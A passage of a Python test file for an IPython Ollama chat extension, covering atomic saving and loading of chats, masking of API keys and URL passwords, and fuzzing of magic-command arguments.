    path = tmp_path / "locked.json"
    path.write_bytes(_file())
    if os.geteuid() == 0:
        # chmod 000 does not stop root (CI runs as root): make the open fail as it would for a user.
        real_open = Path.open

        def denied(self: Path, *args: Any, **kwargs: Any) -> Any:
            if self == path:
                raise PermissionError(13, "Permission denied", str(self))
            return real_open(self, *args, **kwargs)

        monkeypatch.setattr(Path, "open", denied)
    else:
        path.chmod(0)
    try:
        res = run(shell, f"%ollama load {path}")
        assert "permission denied" in one_line_usage_error(res)
    finally:
        path.chmod(0o600)


def _saved(shell: Any, tmp_path: Path) -> tuple[Path, bytes]:
    run(shell, "%%ollama\none")
    path = tmp_path / "chats.json"
    shell.run_line_magic("ollama", f"save {path}")
    old = path.read_bytes()
    run(shell, "%%ollama\ntwo")
    return path, old


@pytest.mark.parametrize("failing", ["os.replace", "os.fdatasync", "tempfile.mkstemp", "write"])
def test_failed_save_keeps_the_old_file_and_leaves_no_temp_file(shell, ollama_server, tmp_path, monkeypatch, failing):
    import tempfile

    path, old = _saved(shell, tmp_path)

    def disk_full(*args: Any, **kwargs: Any) -> Any:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        if failing == "write":
            real_fdopen = os.fdopen

            def fdopen(fd: int, *args: Any, **kwargs: Any) -> Any:
                fh = real_fdopen(fd, *args, **kwargs)
                fh.write = disk_full  # the disk fills up mid-write
                return fh

            patch.setattr(os, "fdopen", fdopen)
        else:
            module, attr = failing.split(".")
            patch.setattr({"os": os, "tempfile": tempfile}[module], attr, disk_full, raising=False)
        res = run(shell, f"%ollama save {path}")
    assert "No space left on device" in one_line_usage_error(res)
    assert path.read_bytes() == old
    assert [p.name for p in tmp_path.iterdir()] == ["chats.json"]


def test_interrupted_save_keeps_the_old_file(shell, ollama_server, tmp_path, monkeypatch):
    path, old = _saved(shell, tmp_path)

    def interrupted(*args: Any) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", interrupted)
        res = run(shell, f"%ollama save {path}")
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    assert path.read_bytes() == old
    assert [p.name for p in tmp_path.iterdir()] == ["chats.json"]


def test_save_and_export_replace_atomically(shell, ollama_server, tmp_path, monkeypatch):
    path, _ = _saved(shell, tmp_path)
    calls: list[tuple[str, str]] = []
    real = os.replace

    def replace(src: Any, dst: Any) -> None:
        calls.append((str(src), str(dst)))
        real(src, dst)

    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", replace)
        shell.run_line_magic("ollama", f"save {path}")
        shell.run_line_magic("ollama", f"export {tmp_path / 'chat.md'}")
    assert [dst for _, dst in calls] == [str(path), str(tmp_path / "chat.md")]
    assert all(Path(src).parent == tmp_path and Path(src).name.startswith(".") for src, _ in calls)
    assert json.loads(path.read_text())["chats"][0]["turns"][1]["messages"][0]["content"] == "two"


ADD_TOOL = '''
def add(a: int, b: int) -> int:
    """Add.

    Args:
      a: a
      b: b
    """
    return a + b
'''


def test_save_load_round_trip_is_byte_identical(shell, ollama_server, tmp_path):
    run(shell, ADD_TOOL)
    run(shell, "%%ollama --system 'Be brief.' -o seed=3\nfirst 漢字 😀", cell_id="a")
    run(shell, "%%ollama --tools add\nwhat is 2 plus 3", cell_id="b")
    run(shell, "%%ollama -m qwen3 --think\nthink about it", cell_id="c")
    run(shell, "%%ollama -c side\nother chat")
    shell.run_line_magic("ollama", "options temperature=0.5 stop=[\"x\"]")
    store = store_of(shell)
    assert [m["role"] for m in store.get("default").history()][4:6] == ["assistant", "tool"]
    history = {c.name: json.dumps(c.history()) for c in store}
    dumped = json.dumps(persist.dump(store))
    path = tmp_path / "chats.json"
    shell.run_line_magic("ollama", f"save {path}")
    shell.run_line_magic("reload_ext", "ollama_magic")
    shell.run_line_magic("ollama", f"load {path}")
    store = store_of(shell)
    assert {c.name: json.dumps(c.history()) for c in store} == history
    assert json.dumps(persist.dump(store)) == dumped
    again = tmp_path / "again.json"
    shell.run_line_magic("ollama", f"save {again}")
    assert again.read_bytes() == path.read_bytes()


def test_lone_surrogate_survives_save_and_export(tmp_path):
    from ollama_magic.store import Turn

    store = ConversationStore()
    store.commit(Turn.of({"role": "user", "content": "q"}, {"role": "assistant", "content": "bad \ud800 text"}))
    path = persist.save(store, tmp_path / "s.json")
    chats, _ = persist.read(path)
    assert chats[0].turns[0].reply["content"] == "bad \ud800 text"
    persist.write_text(tmp_path / "s.md", persist.export_markdown(store.active))
    assert "bad" in (tmp_path / "s.md").read_text()


# -- 6. secrets -------------------------------------------------------------------------
HEADER_SECRET = "sk-header-" + "7" * 24


@pytest.fixture
def secrets(shell, monkeypatch):
    monkeypatch.setenv("OLLAMA_API_KEY", SECRET)
    shell.run_line_magic("config", f"OllamaMagics.headers = {{'Authorization': 'Bearer {HEADER_SECRET}', 'X-Team': 'nlp'}}")
    return (SECRET, HEADER_SECRET)


def _leaks(text: str) -> list[str]:
    return [s for s in (SECRET, HEADER_SECRET, SECRET[-12:], HEADER_SECRET[-12:]) if s in text]


def test_the_header_is_sent(shell, ollama_server, secrets):
    assert run(shell, "%%ollama\nhi").success
    rec = [r for r in ollama_server.requests if r.path == "/api/chat"][-1]
    assert {k.lower(): v for k, v in rec.headers.items()}["authorization"] == f"Bearer {HEADER_SECRET}"


def test_secrets_never_shown(shell, ollama_server, secrets, capsys, tmp_path):
    run(shell, "%%ollama\nhi")
    for line in ("config", "chats", "history", "model", "options", "help"):
        shell.run_line_magic("ollama", line)
    shell.run_line_magic("ollama", f"save {tmp_path / 'c.json'}")
    shell.run_line_magic("ollama", f"export {tmp_path / 'c.md'}")
    out = capsys.readouterr()
    assert not _leaks(out.out + out.err)
    assert "Authorization" in out.out and "hidden" in out.out  # the name is shown, not the value
    for path in tmp_path.iterdir():
        assert not _leaks(path.read_text())
    magics = magics_of(shell)
    for obj in (magics, magics.store, magics.store.active, magics.headers, magics.client()):
        assert not _leaks(repr(obj)) and not _leaks(str(obj))
    assert not _leaks(repr(vars(magics.store))) and not _leaks(repr(persist.dump(magics.store)))


def test_config_help_does_not_print_the_header(shell, ollama_server, secrets, capsys):
    capsys.readouterr()
    shell.run_line_magic("config", "OllamaMagics")
    out = capsys.readouterr().out
    assert "headers" in out
    assert not _leaks(out)


@pytest.mark.parametrize("fault", ["http_500", "down", "http_404", "timeout", "mid_stream", "http_401"])
def test_secrets_not_in_error_messages(shell, ollama_server, secrets, monkeypatch, fault):
    shell.run_line_magic("config", "OllamaMagics.timeout = 0.3")
    if fault == "http_500":
        ollama_server.status = 500
    elif fault == "http_401":
        ollama_server.status = 401
    elif fault == "down":
        monkeypatch.setenv("OLLAMA_HOST", "http://127.0.0.1:9")
    elif fault == "timeout":
        ollama_server.first_token_delay = 2.0
    elif fault == "mid_stream":
        ollama_server.drop_after = 2
    model = " -m nope" if fault == "http_404" else ""
    res = run(shell, f"%%ollama{model}\nhi")
    assert not _leaks(one_line_usage_error(res))
    res = run(shell, "%ollama models")
    err = res.error_in_exec
    assert err is None or not _leaks(str(err))


def test_no_derived_secret_reaches_the_server(shell, ollama_server, secrets):
    assert run(shell, "%%ollama\nhi").success
    rec = [r for r in ollama_server.requests if r.path == "/api/chat"][-1]
    ours = {k.lower() for k in rec.headers} - {"host", "accept", "accept-encoding", "connection", "user-agent",
                                               "content-type", "content-length", "authorization", "x-team"}
    assert ours == set()


def test_a_new_api_key_gets_a_new_client(shell, ollama_server, monkeypatch):
    from ollama_magic import chat

    monkeypatch.setenv("OLLAMA_API_KEY", "first-key")
    first = chat.client_for(ollama_server.host)
    monkeypatch.setenv("OLLAMA_API_KEY", "second-key")
    assert chat.client_for(ollama_server.host) is not first
    run(shell, "%%ollama\nhi")
    rec = [r for r in ollama_server.requests if r.path == "/api/chat"][-1]
    assert {k.lower(): v for k, v in rec.headers.items()}["authorization"] == "Bearer second-key"


def test_password_in_host_url_is_hidden_in_errors(shell, ollama_server, monkeypatch):
    monkeypatch.setenv("OLLAMA_HOST", f"http://user:{SECRET}@127.0.0.1:9")
    msg = one_line_usage_error(run(shell, "%%ollama\nhi"))
    assert "Cannot reach Ollama at http://***@127.0.0.1:9" in msg and not _leaks(msg)


def test_password_in_host_url_is_hidden_in_config(shell, ollama_server, monkeypatch, capsys):
    monkeypatch.setenv("OLLAMA_HOST", f"http://user:{SECRET}@127.0.0.1:9")
    capsys.readouterr()
    shell.run_line_magic("ollama", "config")
    assert not _leaks(capsys.readouterr().out)


def test_password_in_host_url_is_hidden_in_an_incomplete_reply_error(shell, ollama_server, monkeypatch):
    monkeypatch.setenv("OLLAMA_HOST", ollama_server.host.replace("http://", f"http://user:{SECRET}@"))
    ollama_server.no_done = True
    msg = one_line_usage_error(run(shell, "%%ollama\nhi"))
    assert "ended before it was complete" in msg and not _leaks(msg)


# -- 4. fuzzing the magics ------------------------------------------------------------
# Characters str.splitlines() breaks on: the first line of a cell cannot hold them.
_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
_free = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters=_BREAKS), max_size=8)
_VALUES: dict[str, st.SearchStrategy[str]] = {
    "-m": st.sampled_from(["llama3.2", "qwen3", "nope", "' '", "''", "llama3.2:latest"]),
    "--model": st.sampled_from(["qwen3", "ll ama"]),
    "-c": st.sampled_from(["side", "default", "'two words'", "''", "x"]),
    "--chat": st.sampled_from(["other", "\"q\""]),
    "--system": st.one_of(_free, st.sampled_from(["'Be brief.'", "\"\"", "{name}", "'"])),
    "-o": st.sampled_from(["num_ctx=64", "seed=1", "stop=[\"x\"]", "stop=[oops", "x", "=1", "a.b=2", "t=nan",
                           "num_predict=2", "k='v w'", "k={\"a\":1}"]),
    "--option": st.sampled_from(["temperature=0", "mirostat=1e999"]),
    "-t": st.sampled_from(["0.2", "hot", "nan", "-1", "1e309"]),
    "--temperature": st.sampled_from(["0"]),
    "--format": st.sampled_from(["json", "schema", "nope", "In", "n"]),
    "--think": st.sampled_from(["", "high", "low", "extreme"]),
    "--image": st.sampled_from(["IMG", "MISSING", "TEXT", "img_bytes", "n", "In"]),
    "--tools": st.sampled_from(["f", "nope", "f,nope", ",", "n", "f,f"]),
    "--out": st.sampled_from(["fuzz_out", "1bad", "'a b'", "fuzz_out2"]),
}
_FLAGS = ["--new", "--once", "--error", "--no-stream", "--code", "--", "-", "--bogus", "-x", "--think"]
_option = st.sampled_from(sorted(_VALUES)).flatmap(lambda opt: _VALUES[opt].map(lambda v: f"{opt} {v}".rstrip()))
_token = st.one_of(st.sampled_from(_FLAGS), _option, _option, _free)
_FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)


PNG = bytes.fromhex(  # a 1x1 image
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005060201a3a6d4a60000000049454e44ae426082"
)


def _fuzz_namespace(ip: Any, tmp_path: Path) -> dict[str, str]:
    (tmp_path / "dot.png").write_bytes(PNG)
    (tmp_path / "notes.txt").write_text("not an image")
    ip.user_ns.update(n=3, name="Ada", img_bytes=PNG, schema={"type": "object", "properties": {"a": {"type": "string"}}})
    run(ip, "def f(a: int) -> int:\n    '''Double.\n\n    Args:\n      a: a number\n    '''\n    return 2 * a")
    return {"IMG": str(tmp_path / "dot.png"), "MISSING": str(tmp_path / "missing.png"), "TEXT": str(tmp_path / "notes.txt")}


def _only_usage_errors(result: Any) -> None:
    err = result.error_in_exec or result.error_before_exec
    if err is not None:
        assert type(err) is UsageError, repr(err)
        assert "\n" not in str(err), str(err)


def test_fuzzed_cell_magic_line(shell, ollama_server, tmp_path, capsys):
    paths = _fuzz_namespace(shell, tmp_path)
    magics = magics_of(shell)
    ollama_server.reply = "short reply ```python\nprint(1)\n```"
    ollama_server.tool_mode = "never"

    @_FUZZ
    @given(st.lists(_token, max_size=6))
    def check(tokens: list[str]) -> None:
        line = " ".join(tokens)
        for key, path in paths.items():
            line = line.replace(key, path)
        magics.store = ConversationStore(model="llama3.2")
        res = run(shell, f"%%ollama {line}\nquestion {{name}}")
        _only_usage_errors(res)
        outcomes.append(res.success)
        capsys.readouterr()

    outcomes: list[bool] = []
    check()
    assert sum(outcomes) >= 20 and len(outcomes) - sum(outcomes) >= 20, outcomes  # both paths were explored
    for name in shell.user_ns:  # nothing but --out ever wrote a variable
        assert not name.startswith("fuzz_") or name in ("fuzz_out", "fuzz_out2")


@_FUZZ
@given(st.text(max_size=40))
def test_fuzzed_argument_parsing(line: str) -> None:
    from ollama_magic.magics import OllamaMagics

    magics = OllamaMagics.__new__(OllamaMagics)  # parsing needs no shell
    try:
        OllamaMagics._parse(magics, OllamaMagics.ollama, line)
    except UsageError as exc:
        assert "\n" not in str(exc)


_SUBS = ["help", "models", "model", "system", "options", "chats", "chat", "history", "reset", "undo", "fix", "fork",
         "last", "config", "", "nope", "save", "load", "export"]
_file_name = st.text(st.sampled_from("abc.-_ '\"é"), min_size=1, max_size=6)


def test_fuzzed_line_magic(shell, ollama_server, tmp_path, capsys):
    _fuzz_namespace(shell, tmp_path)
    magics = magics_of(shell)
    run(shell, "1/0")  # so that `fix` has a failure to send
    run(shell, "%%ollama\nkept")
    magics.store.set_options({})
    saved = tmp_path / "saved.json"
    shell.run_line_magic("ollama", f"save {saved}")

    @_FUZZ
    @given(st.sampled_from(_SUBS), st.lists(st.one_of(_free, st.sampled_from(
        ["--clear", "--at", "2", "-1", "llama3.2", "qwen3", "num_ctx=64", "x=null", "'a b'", "\"", "--image", "IMG"])),
        max_size=4), _file_name)
    def check(sub: str, rest: list[str], file_name: str) -> None:
        if sub in ("save", "load", "export"):  # files only in tmp_path
            target = saved if sub == "load" and not rest else tmp_path / "out" / file_name
            (tmp_path / "out").mkdir(exist_ok=True)
            line = f"{sub} '{target}'" if "'" not in str(target) else f"{sub} \"{target}\""
        else:
            line = f"{sub} {' '.join(rest)}"
        res = run(shell, f"%ollama {line}")
        _only_usage_errors(res)
        outcomes.append(res.success)
        capsys.readouterr()
        if len(magics.store.active.turns) > 20:
            magics.store.reset()

    outcomes: list[bool] = []
    check()
    assert sum(outcomes) >= 20 and len(outcomes) - sum(outcomes) >= 10, outcomes
    assert {p.parent for p in tmp_path.rglob("*") if p.is_file()} <= {tmp_path, tmp_path / "out"}


@_FUZZ
@given(st.text(st.sampled_from("{}[]().'\"_ab01 -\\:!"), max_size=30))
def test_fuzzed_interpolation_never_raises(text: str) -> None:
    from ollama_magic.interpolate import interpolate

    class Hostile:
        def __getattr__(self, name: str) -> Any:
            raise RuntimeError("no")

        def __getitem__(self, key: Any) -> Any:
            raise KeyError(key)

        def __str__(self) -> str:
            raise ValueError("no str")

    ns = {"a": Hostile(), "b": {"a": [1, 2]}, "_": "last", "a0": [Hostile()], "b1": "x{a}y"}
    out = interpolate(text, ns)
    assert isinstance(out, str)
    if "{" not in text:
        assert out == text
